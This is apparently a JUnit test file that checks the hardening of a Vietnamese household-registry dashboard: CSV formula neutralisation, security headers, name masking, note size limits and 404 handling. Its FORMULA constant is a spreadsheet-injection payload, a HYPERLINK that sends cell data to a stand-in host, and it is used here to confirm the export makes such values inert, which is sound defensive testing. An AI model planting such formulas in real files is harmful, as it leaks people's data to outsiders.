package vn.giadinhso.hub.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.giadinhso.hub.TestHub;
import vn.giadinhso.hub.auth.UserStore;

/** Issue 10.9, the dashboard's part: inert CSV cells, security headers, masked lists, note limits, 404 pages. */
class DashboardHardeningTest {
  static final String PASSWORD = "mat-khau-rat-dai-1";
  static final String FORMULA = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Bấm vào đây\")";

  @TempDir static Path dir;
  static TestHub hub;
  static StaffClient staff;

  @BeforeAll
  static void start() throws Exception {
    hub = new TestHub(dir);
    // A household whose village was typed as a spreadsheet formula: the report export names villages.
    String csv = "household_code,village,head_name,members,groups,flags\n"
        + "AT-T1-0001,\"" + FORMULA.replace("\"", "\"\"") + "\",Lê Văn Tám,Lê Văn Tám,,\n"
        + "AT-T1-0002,Thôn Tân Thành,Nguyễn Văn An,Nguyễn Văn An; Trần Thị Bình,,\n";
    hub.importRoster(csv);
    hub.hub.users.create("can-bo-a", PASSWORD, UserStore.Role.STAFF, "an-tuong");
    staff = StaffClient.signedIn(hub, "can-bo-a", PASSWORD);
  }

  @AfterAll
  static void stop() {
    hub.close();
  }

  @Test
  void aFormulaTypedAsAVillageNameIsPlainTextInTheCsvExport() throws Exception {
    String csv = new String(staff.getBytes("/dashboard/c/an-tuong/report.csv").body(), StandardCharsets.UTF_8).substring(1);
    List<CSVRecord> records = CSVFormat.EXCEL.parse(new StringReader(csv)).getRecords();
    List<String> scopes = records.stream().map(r -> r.get(0)).toList();
    assertTrue(scopes.contains("'" + FORMULA), scopes.toString());
    assertTrue(scopes.stream().noneMatch(s -> s.startsWith("=")), scopes.toString());
  }

  @Test
  void everyDashboardResponseForbidsFramingAndSniffingAndSetsAPolicy() throws Exception {
    for (String path : List.of("/login", "/dashboard/c/an-tuong", "/dashboard/c/an-tuong/households",
        "/static/dashboard.css", "/dashboard/c/an-tuong/khong-co", "/dashboard/c/an-tuong/report.csv")) {
      var headers = staff.get(path).headers();
      assertEquals("DENY", headers.firstValue("X-Frame-Options").orElse(""), path);
      assertEquals("nosniff", headers.firstValue("X-Content-Type-Options").orElse(""), path);
      String csp = headers.firstValue("Content-Security-Policy").orElse("");
      assertTrue(csp.contains("frame-ancestors 'none'"), path + ": " + csp);
      assertTrue(csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"), path + ": " + csp);
    }
  }

  @Test
  void theHouseholdListShowsNamesMasked() throws Exception {
    String page = staff.get("/dashboard/c/an-tuong/households").body();
    assertTrue(page.contains("Nguyễn V. A."), page);
    assertFalse(page.contains("Nguyễn Văn An"), page);
    String found = staff.get("/dashboard/c/an-tuong/households?q="
        + java.net.URLEncoder.encode("Nguyễn Văn An", StandardCharsets.UTF_8)).body();
    assertTrue(found.contains("AT-T1-0002"), "search still matches the full name");
  }

  @Test
  void aNoteLongerThanFourKilobytesIsRefusedAndNothingIsStored() throws Exception {
    String criterion = hub.hub.criteria.active("an-tuong").orElseThrow().criteria().get(0).id();
    int before = hub.hub.households.statusHistory("AT-T1-0002", criterion).size();
    staff.get("/dashboard/c/an-tuong/households/AT-T1-0002");
    HttpResponse<String> refused = staff.postForm("/dashboard/c/an-tuong/households/AT-T1-0002/criteria/" + criterion,
        Map.of("note", "Đã kiểm tra. ".repeat(400), "decision", "met"));
    assertEquals(400, refused.statusCode());
    assertTrue(refused.body().contains("Nội dung quá dài (note): tối đa 4 KB"), refused.body());
    assertEquals(before, hub.hub.households.statusHistory("AT-T1-0002", criterion).size());

    HttpResponse<String> accepted = staff.postForm("/dashboard/c/an-tuong/households/AT-T1-0002/criteria/" + criterion,
        Map.of("note", "Đã kiểm tra trên điện thoại của hộ", "decision", "met"));
    assertEquals(303, accepted.statusCode(), accepted.body());
  }

  @Test
  void dashboard404sArePagesWhileApi404sStayJson() throws Exception {
    for (String path : List.of("/dashboard/c/an-tuong/khong-co", "/dashboard/c/an-tuong/households/AT-T9-9999")) {
      HttpResponse<String> page = staff.get(path);
      assertEquals(404, page.statusCode(), path);
      assertTrue(page.headers().firstValue("Content-Type").orElse("").startsWith("text/html"), path);
      assertTrue(page.body().contains("id=\"error-message\"") && page.body().contains("Gia Đình Số"), page.body());
      assertTrue(page.body().contains("Đăng xuất"), "in the dashboard layout, signed in");
    }
    // As a browser asks for it (Javalin answers a browser's Accept: text/html with its own page).
    HttpResponse<String> browser = java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest
        .newBuilder(hub.uri("/dashboard/c/an-tuong/khong-co")).header("Accept", "text/html,application/xhtml+xml")
        .header("Cookie", DashboardAccess.COOKIE + "=" + staff.cookie(DashboardAccess.COOKIE)).build(),
        HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    assertEquals(404, browser.statusCode());
    assertTrue(browser.body().contains("id=\"error-message\""), browser.body());
    for (String path : List.of("/dashboard/api/khong-co", "/api/v1/khong-co")) {
      HttpResponse<String> api = staff.get(path);
      assertEquals(404, api.statusCode(), path);
      assertTrue(api.headers().firstValue("Content-Type").orElse("").startsWith("application/json"), path);
      assertTrue(api.body().contains("\"error\""), api.body());
    }
  }

  @Test
  void anAdminAskingForTheReportOfAnUnknownCommuneGetsA404NotA500() throws Exception {
    hub.hub.users.create("quan-tri", PASSWORD, UserStore.Role.ADMIN, null);
    StaffClient admin = StaffClient.signedIn(hub, "quan-tri", PASSWORD);
    for (String path : List.of("/dashboard/c/khong-co/report", "/dashboard/c/khong-co/report.csv",
        "/dashboard/c/khong-co/report.xlsx")) {
      HttpResponse<String> page = admin.get(path);
      assertEquals(404, page.statusCode(), path);
      assertTrue(page.headers().firstValue("Content-Type").orElse("").startsWith("text/html"), path);
      assertTrue(page.body().contains("id=\"error-message\"") && page.body().contains("Đăng xuất"), page.body());
    }
    HttpResponse<String> api = admin.get("/dashboard/api/c/khong-co/report");
    assertEquals(404, api.statusCode(), api.body());
    assertTrue(api.headers().firstValue("Content-Type").orElse("").startsWith("application/json"), api.body());
  }

  @Test
  void aNotFoundPageDoesNotRepeatAnIdNumberTypedInTheAddress() throws Exception {
    for (String path : List.of("/dashboard/c/an-tuong/households/052190099903",
        "/dashboard/c/an-tuong/points/0521-9009-9903")) {
      HttpResponse<String> page = staff.get(path);
      assertEquals(404, page.statusCode(), path);
      assertTrue(page.body().contains("id=\"error-message\""), page.body());
      assertFalse(page.body().contains("9009"), page.body());
    }
  }
}
